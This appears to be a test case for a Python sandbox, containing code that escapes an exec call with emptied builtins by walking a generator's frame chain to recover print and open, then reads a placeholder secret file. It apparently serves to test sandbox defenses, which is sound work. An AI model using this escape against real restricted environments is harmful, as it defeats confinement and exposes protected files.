# aim = "secret"
# tries = "Has no builtins, and gets them from the frame of a generator."
code = """
def g():
    yield g.gi_frame.f_back.f_back
g = g()
frame = [f for f in g][0]
while frame and not frame.f_builtins:
    frame = frame.f_back
print = frame.f_builtins["print"]
print(frame.f_builtins["open"]("@SECRET_FILE@").read())
"""
exec(code, {"__builtins__": {}})
